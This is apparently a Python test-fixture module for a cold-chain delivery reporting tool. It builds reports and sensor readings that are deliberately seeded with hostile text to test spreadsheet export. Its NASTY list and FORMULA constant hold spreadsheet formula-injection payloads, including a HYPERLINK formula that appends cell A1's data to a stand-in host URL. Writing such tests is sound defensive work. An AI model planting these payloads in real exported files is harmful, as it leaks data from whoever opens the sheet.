"""A report that was really made, and one in which everything happened, with texts that are out to do harm."""

import io
import tempfile
from collections.abc import Sequence
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
from msgspec.structs import replace

from coldchain.evidence import Action, AlarmStory, Given, Message, Step
from coldchain.judgement.verdict import TimerVerdict
from coldchain.reading import Flag, Reading
from helpers.evidence_case import evidence_on, moved_fleet
from helpers.small_fleet import HOUR, MINUTE, NOW
from reports.content.build import build_report
from reports.content.document import Act, Hole, Out, Report

FORMULA = '=HYPERLINK("http://x.test/?"&A1,"see")'
NASTY = (
    FORMULA,
    "+1",
    "-1",
    "@SUM(A1)",
    "\ta",
    "\rb",
    "'=1",
    "a\nb",
    'a "b", c',
    "भैंस 牛 𝄞",
    "_x000D_",
    "\x07&<>",
)


@cache
def made() -> tuple[Report, tuple[Reading, ...]]:
    """Return the report on the milk of the small fleet, with its readings."""
    with tempfile.TemporaryDirectory() as folder:
        evidence = evidence_on(moved_fleet(Path(folder)))
    return build_report(evidence), evidence.readings


@cache
def keyed() -> Report:
    """Return the eventful report, of which everything has a number at GS1."""
    report = eventful()
    links = {
        f"asset/{leg.asset}": f"https://id.gs1.org/8004/6291041500{n}" for n, leg in enumerate(report.legs)
    }
    links |= {f"party/{leg.custodian}": "https://id.gs1.org/417/6291041500213" for leg in report.legs}
    links |= {f"device/{each.device}": "https://id.gs1.org/8004/6291041500LOG" for each in report.sensors}
    names = {each.receiver or each.custodian for each in report.acts}
    links |= {f"party-named/{each}": "https://id.gs1.org/417/4012345000009" for each in names}
    return replace(report, links=links)


@cache
def eventful() -> Report:
    """Return the same report with excursions, gaps, alarms, acts, versions, and hostile texts."""
    report, _ = made()
    assert report.goods is not None
    assert report.verdict is not None
    verdict = replace(
        report.verdict,
        harms=(("freezing", NOW - HOUR),),
        timers=(TimerVerdict("two hours", 7_200_000, NOW - HOUR), TimerVerdict("four hours", 1, None)),
        reasons=(FORMULA,),
    )
    return replace(
        report,
        title="@SUM(A1)\x07",
        goods=replace(report.goods, lot="=1+1", order_ref="PO-7", origin="Shinyalu", parents=("s-0", "s-9")),
        verdict=verdict,
        legs=(replace(report.legs[0], harms=(("freezing", NOW - HOUR),)), *report.legs[1:]),
        outs=(_out(side="above", extreme=9.25, leg=1), _out(side="below", extreme=-0.1, leg=0)),
        holes=(Hole(device="d-van-1", channel="", from_at=NOW, until_at=NOW + 1, missing=3, cause="lost"),),
        alarms=(_alarm(),),
        given=(Given(version=1, final=False, cause="leg", recorded_at=NOW, verdict=verdict),),
        acts=tuple(
            _act(at, kind) for at, kind in enumerate(("merged", "loaded", "split", "refused", "delivered"))
        ),
        quarantined={"bad-pack": 3},
        readings_sha256="ab" * 32,
        chain_head="cd" * 32,
    )


def nasty_readings() -> list[Reading]:
    """Return readings with a hostile note each, one without a value, and numbers that are hard to write."""
    values = (
        -0.0,
        1e-7,
        1e22,
        0.1 + 0.2,
        5e-324,
        float("nan"),
        float("inf"),
        3.0,
        -4.25,
        1 / 3,
        2**53 + 0.0,
        7.0,
    )
    return [
        Reading(
            device="d-1",
            channel="air/temperature",
            boot=0xFFFFFFFF,
            sequence=at,
            event_at=NOW + at * MINUTE + at,
            received_at=NOW + at * MINUTE + 2000,
            value=values[at % len(values)],
            unit="Cel",
            flag=int(Flag.FAIL if at % len(values) == 5 else Flag.SUSPECT),
            note=note,
        )
        for at, note in enumerate(NASTY)
    ]


def sheet(body: bytes, name: str) -> list[tuple[Any, ...]]:
    """Return the rows of a sheet as openpyxl reads them."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    return list(book[name].iter_rows(values_only=True))


def shown(cell: object) -> str:
    """Return a text as a program for spreadsheets shows it: openpyxl leaves some escapes."""
    text = str(cell or "")
    return text if text == "_x000D_" else text.replace("_x000D_", "\r").replace("_x0007_", "\x07")


def table(rows: Sequence[tuple[Any, ...]], head: int = 0) -> list[dict[str, Any]]:
    """Return the rows under a header, by its words."""
    return [dict(zip(map(str, rows[head]), row, strict=True)) for row in rows[head + 1 :]]


def _out(*, side: str, extreme: float, leg: int) -> Out:
    return Out(
        asset="van-1",
        device="d-van-1",
        channel="air/temperature",
        limit="too-warm",
        side=side,
        bound=8.1,
        unit="Cel",
        from_at=NOW - 3 * HOUR,
        until_at=NOW - 2 * HOUR + 123,
        extreme=extreme,
        extreme_at=NOW - 2 * HOUR,
        readings=61,
        goes_on=False,
        leg=leg,
        cause="door" if leg else "",
    )


def _alarm() -> AlarmStory:
    return AlarmStory(
        id="a-1",
        asset="van-1",
        device="d-van-1",
        channel="air/temperature",
        limit="too-warm",
        kind="limit",
        severity="high",
        steps=(
            Step(
                event="raise",
                from_state="",
                to_state="UNACK",
                event_at=NOW - HOUR,
                recorded_at=NOW - HOUR + 5,
                late=True,
            ),
        ),
        told=(
            Message(
                to="peter",
                channel="sms",
                address="+254700000002",
                step="raise",
                body=FORMULA,
                created_at=NOW - MINUTE,
                sent_at=NOW,
                delivered_at=None,
                error="busy",
            ),
        ),
        actions=(
            Action(action="ack", by="grace", via="web", at=NOW - 2 * MINUTE, comment="-1", until_at=None),
        ),
    )


def _act(at: int, kind: str) -> Act:
    return Act(
        at=NOW - 5 * HOUR + at * MINUTE,
        recorded_at=NOW,
        act=kind,
        by="Peter Wanjala",
        via="sms",
        asset="Van KBZ 214",
        custodian="Peter Wanjala",
        receiver="Moses & Sons" if kind == "delivered" else "",
        site="Kaimosi" if kind in ("delivered", "merged") else "",
        quantity_kg=12.5 if kind in ("split", "merged") else None,
        measured_c=4.5 if kind == "delivered" else None,
        why=FORMULA,
        taken_back=False,
    )
